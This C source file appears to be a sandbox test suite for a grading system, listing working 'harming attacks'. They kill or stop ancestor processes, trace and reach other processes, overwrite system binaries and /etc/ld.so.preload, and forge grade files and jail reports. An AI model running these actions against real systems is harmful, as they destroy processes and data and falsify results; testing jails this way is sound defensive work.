/* Attacks that want to harm: signals, tracing, others' files, and what is cleaned up
 * behind them. */

#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

#include "scene.h"

/* --- Signals --- */

static pid_t
parent_of (pid_t pid)
{
    char path[64], text[512];
    snprintf (path, sizeof path, "/proc/%d/stat", pid);
    FILE *file = fopen (path, "r");
    size_t length = file != NULL ? fread (text, 1, sizeof text - 1, file) : 0;
    if (file != NULL)
        fclose (file);
    text[length] = '\0';
    const char *behind = strrchr (text, ')');
    int parent = 0;
    return behind != NULL && sscanf (behind, ") %*c %d", &parent) == 1 ? parent : 0;
}

/* From the parent up to the first process of all. */
static void
signal_ancestors (int number)
{
    for (pid_t pid = getppid (); pid > 0; pid = parent_of (pid))
        if (pid != 1 || getppid () == 1)
            kill (pid, number);
}

/* Whoever has to watch over us does not; we stay. */
static bool
stop_parents (void)
{
    signal_ancestors (SIGSTOP);
    doze (600);
    return false;
}

static bool
kill_all (void)
{
    kill (-1, SIGKILL);
    return false;
}

static bool
kill_groups (void)
{
    pid_t parent = getppid ();
    if (getpgid (parent) > 0)
        kill (-getpgid (parent), SIGKILL);
    for (pid_t pid = parent; pid > 1; pid = parent_of (pid))
        kill (-getpgid (pid), SIGKILL);
    kill (0, SIGKILL);
    return false;
}

static bool
signal_one (pid_t pid)
{
    const int numbers[] = { SIGHUP,  SIGINT,  SIGQUIT, SIGUSR1, SIGUSR2,
                            SIGTERM, SIGTSTP, SIGCONT, SIGCHLD, SIGRTMIN + 3 };
    const union sigval value = { .sival_int = 1 };
    int handle = (int) syscall (SYS_pidfd_open, pid, 0);
    for (size_t i = 0; i < sizeof numbers / sizeof *numbers; i++) {
        sigqueue (pid, numbers[i], value);
        syscall (SYS_tgkill, pid, pid, numbers[i]);
        if (handle >= 0)
            syscall (SYS_pidfd_send_signal, handle, numbers[i], NULL, 0);
    }
    if (handle >= 0)
        close (handle);
    return false;
}

/* The kernel signals in our name. */
static bool
own_signal (pid_t pid)
{
    int ends[2];
    if (kill (pid, 0) != 0 || pipe (ends) != 0)
        return false;
    fcntl (ends[0], F_SETOWN, pid);
    fcntl (ends[0], F_SETSIG, SIGKILL);
    fcntl (ends[0], F_SETFL, O_ASYNC);
    if (write (ends[1], "x", 1) < 0)
        perror ("write");
    close (ends[0]);
    close (ends[1]);
    return false;
}

/* By number, by thread, by handle, with a value. */
static bool
signal_everybody (void)
{
    return any_process (signal_one) | any_process (own_signal);
}

/* Those that are left are stopped, and nobody's children. */
static bool
stop_orphans (void)
{
    for (int i = 0; i < 4; i++)
        if (fork () == 0) {
            prctl (PR_SET_PDEATHSIG, SIGSTOP);
            setsid ();
            doze (600);
            _exit (0);
        }
    doze (0.05);
    return false;
}

static bool
adopt_orphans (void)
{
    prctl (PR_SET_CHILD_SUBREAPER, 1);
    if (fork () == 0) {
        setsid ();
        prctl (PR_SET_CHILD_SUBREAPER, 1);
        for (int i = 0; i < 6; i++)
            if (in_daemon ()) {
                doze (20);
                _exit (0);
            }
        doze (20);
        _exit (0);
    }
    doze (0.1);
    return false;
}

/* --- Tracing --- */

static const char good_report[64] = "";

static bool
trace (pid_t pid)
{
    if (ptrace (PTRACE_SEIZE, pid, NULL, NULL) != 0)
        return false;
    return gained ("process %d can be traced", pid);
}

static bool
trace_everybody (void)
{
    return any_process (trace);
}

/* An address at which nothing is: whoever is told so has the right. */
static bool
reach_memory (pid_t pid)
{
    char byte = 0;
    const struct iovec here = { &byte, 1 }, there = { (void *) 16, 1 };
    bool any = process_vm_readv (pid, &here, 1, &there, 1, 0) >= 0 || errno == EFAULT;
    any |= process_vm_writev (pid, &here, 1, &there, 1, 0) >= 0 || errno == EFAULT;
    return any && gained ("the memory of process %d can be reached", pid);
}

static bool
take_descriptor (pid_t pid)
{
    bool any = false;
    int handle = (int) syscall (SYS_pidfd_open, pid, 0);
    for (int i = 0; handle >= 0 && i < 8; i++)
        any |= syscall (SYS_pidfd_getfd, handle, i, 0) >= 0;
    if (handle >= 0)
        close (handle);
    any |= syscall (SYS_kcmp, getpid (), pid, 0, 0, 0) >= 0;
    return any && gained ("process %d can be looked into", pid);
}

/* --- Others' limits --- */

/* In the jail that is its init, which harms nobody but us when it fails. */
#define INIT 1

static bool
hold_one (pid_t pid)
{
    static const int resources[] = { RLIMIT_CPU, RLIMIT_FSIZE, RLIMIT_NOFILE };
    const struct rlimit nothing = { 0, 0 };
    const struct sched_param never = { .sched_priority = 0 };
    cpu_set_t first;
    bool any = false;
    if (pid == INIT)
        return false;
    CPU_ZERO (&first);
    CPU_SET (0, &first);
    for (size_t i = 0; i < sizeof resources / sizeof *resources; i++)
        any |= prlimit (pid, (__rlimit_resource_t) resources[i], &nothing, NULL) == 0;
    any |= setpriority (PRIO_PROCESS, (id_t) pid, 19) == 0;
    any |= sched_setscheduler (pid, SCHED_IDLE, &never) == 0;
    any |= sched_setaffinity (pid, sizeof first, &first) == 0;
    return any && gained ("process %d can be limited, or slowed down", pid);
}

/* The first whom the kernel kills when memory is short; and names. */
static bool
spoil_one (pid_t pid)
{
    static const char *const names[] = { "oom_score_adj", "comm", "clear_refs",
                                         "coredump_filter", "timerslack_ns" };
    bool any = false;
    for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
        char path[64];
        snprintf (path, sizeof path, "/proc/%d/%s", pid, names[i]);
        int file = open (path, O_WRONLY | O_CLOEXEC);
        any |= file >= 0 && gained ("%s can be written", path);
        if (file >= 0)
            close (file);
    }
    return any;
}

/* A running program cannot be written, but it will not run for ever. */
static bool
replace_running (pid_t pid)
{
    char path[64];
    snprintf (path, sizeof path, "/proc/%d/exe", pid);
    int handle = open (path, O_PATH | O_CLOEXEC);
    if (handle < 0)
        return false;
    snprintf (path, sizeof path, "/proc/self/fd/%d", handle);
    int file = open (path, O_WRONLY | O_CLOEXEC);
    bool any = file >= 0 || errno == ETXTBSY;
    if (file >= 0)
        close (file);
    close (handle);
    return any && gained ("what process %d runs can be written once it has ended", pid);
}

/* What the jail tells poda, told by us. */
static bool
forge_report_to (pid_t pid)
{
    bool any = false;
    for (int i = 3; i < 12; i++) {
        char path[64];
        snprintf (path, sizeof path, "/proc/%d/fd/%d", pid, i);
        int file = open (path, O_WRONLY | O_NONBLOCK | O_CLOEXEC);
        any |= file >= 0 && write (file, good_report, sizeof good_report) > 0;
        if (file >= 0)
            close (file);
    }
    return any && gained ("a report of process %d can be forged", pid);
}

static bool
reach_process (pid_t pid)
{
    return reach_memory (pid) | take_descriptor (pid) | hold_one (pid) | spoil_one (pid)
           | replace_running (pid) | forge_report_to (pid);
}

static bool
reach_processes (void)
{
    bool any = false;
    for (int i = 3; i < 64; i++)
        any |= write (i, good_report, sizeof good_report) > 0
               && gained ("descriptor %d is written", i);
    return any | any_process (reach_process);
}

/* --- Others' files --- */

static void
overwrite (const char *path, const char *text)
{
    unlink (path);
    int file = open (path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
    if (file >= 0 && write (file, text, strlen (text)) > 0)
        close (file);
}

/* To write it is one right, to say who may is another. */
static bool
change_modes (void)
{
    static const char *const names[] = { ZOE "/run", SUITE "/suite.ini", MARKS, BIN };
    const struct timespec times[2] = { { .tv_sec = 1 }, { .tv_sec = 1 } };
    for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
        chmod (names[i], 0);
        utimensat (AT_FDCWD, names[i], times, 0);
        if (truncate (names[i], 0) == 0)
            gained ("%s was emptied", names[i]);
        if (setxattr (names[i], "user.mark", "x", 1, 0) == 0)
            gained ("%s has attributes", names[i]);
    }
    return false;
}

#define FORGED "student,score,most\nmallory,999,4\nana,0,4\n"

static bool
overwrite_files (void)
{
    static const struct {
        const char *path, *text;
    } files[] = {
        { ZOE "/run", "#!/bin/sh\necho value 0\n" },
        { ANA "/run", "#!/bin/sh\necho value 0\n" },
        { SUITE "/cases/a-open.case", "poda 1\nend\n" },
        { SUITE "/suite.ini", "[suite]\nmarks=nodes\n" },
        { MARKS "/earlier.csv", FORGED },
        { MARKS "/results.csv", FORGED },
        { MARKS "/results.json", "{\"score\": 999}" },
        { BIN "/poda", "#!/bin/sh\necho " GAINED "\n" },
        { BIN "/poda-jail", "#!/bin/sh\necho " GAINED "\n" },
        { "/etc/poda-attack", "" },
        { "/etc/ld.so.preload", "" },
        { "/usr/local/bin/sh", "" },
        { "/usr/local/bin/poda", "" },
        { "/usr/local/bin/python3", "" },
        { "/run/poda-attack", "" },
    };
    for (size_t i = 0; i < sizeof files / sizeof *files; i++)
        overwrite (files[i].path, files[i].text);
    return false;
}

/* When all others think that it is over. */
static bool
overwrite_marks_later (void)
{
    if (in_daemon ())
        for (int i = 0; i < 100; i++) {
            overwrite (MARKS "/earlier.csv", FORGED);
            overwrite (MARKS "/results.csv", FORGED);
            doze (0.05);
        }
    return false;
}

static bool
kill_and_forge (void)
{
    overwrite_marks_later ();
    signal_ancestors (SIGKILL);
    return false;
}

/* --- What is cleaned up behind it --- */

/* Where its folder was, a link to somebody else's. */
static bool
link_scratch (void)
{
    static const char *const names[] = { "TMPDIR", "HOME" };
    for (size_t i = 0; i < 2; i++) {
        const char *folder = getenv (names[i]);
        char away[512];
        if (folder == NULL || strcmp (folder, TEACHER) == 0)
            continue;
        snprintf (away, sizeof away, "%s.away", folder);
        if ((rmdir (folder) == 0 || rename (folder, away) == 0)
            && symlink (ZOE, folder) != 0)
            perror (folder);
    }
    return false;
}

/* Links to others' files, folders deeper than any path is long, and what is closed. */
static bool
leave_stubborn_files (void)
{
    char path[512], name[201] = "";
    if (symlink (ZOE, own ("a")) != 0 || symlink (SUITE "/", own ("b")) != 0
        || symlink (MARKS "/earlier.csv", own ("c")) != 0)
        perror ("link");
    if (link (MARKS "/earlier.csv", own ("d")) == 0)
        chmod (own ("d"), 0);
    memset (name, 'x', sizeof name - 1);
    for (int i = 0; i < 1000 && chdir (i == 0 ? own ("") : name) == 0; i++)
        mkdir (name, 0700);
    snprintf (path, sizeof path, "%s", own ("closed"));
    mkdir (path, 0700);
    int file = open (own ("closed/file"), O_WRONLY | O_CREAT | O_CLOEXEC, 0);
    int flags = FS_IMMUTABLE_FL;
    if (file >= 0) {
        ioctl (file, FS_IOC_SETFLAGS, &flags);
        close (file);
    }
    mkfifo (own ("closed/\033[2J\nfifo"), 0);
    chmod (path, 0);
    chmod (own (""), 0);
    return false;
}

static bool
dump_core (void)
{
    prctl (PR_SET_DUMPABLE, 1);
    abort ();
}

const Attack harming_attacks[] = {
    { "stop-parents", stop_parents },
    { "kill-all", kill_all },
    { "kill-groups", kill_groups },
    { "signal-everybody", signal_everybody },
    { "stop-orphans", stop_orphans },
    { "adopt-orphans", adopt_orphans },
    { "trace-everybody", trace_everybody },
    { "reach-processes", reach_processes },
    { "overwrite-files", overwrite_files },
    { "change-modes", change_modes },
    { "overwrite-marks-later", overwrite_marks_later },
    { "kill-and-forge", kill_and_forge },
    { "link-scratch", link_scratch },
    { "leave-stubborn-files", leave_stubborn_files },
    { "dump-core", dump_core },
    { .name = NULL },
};
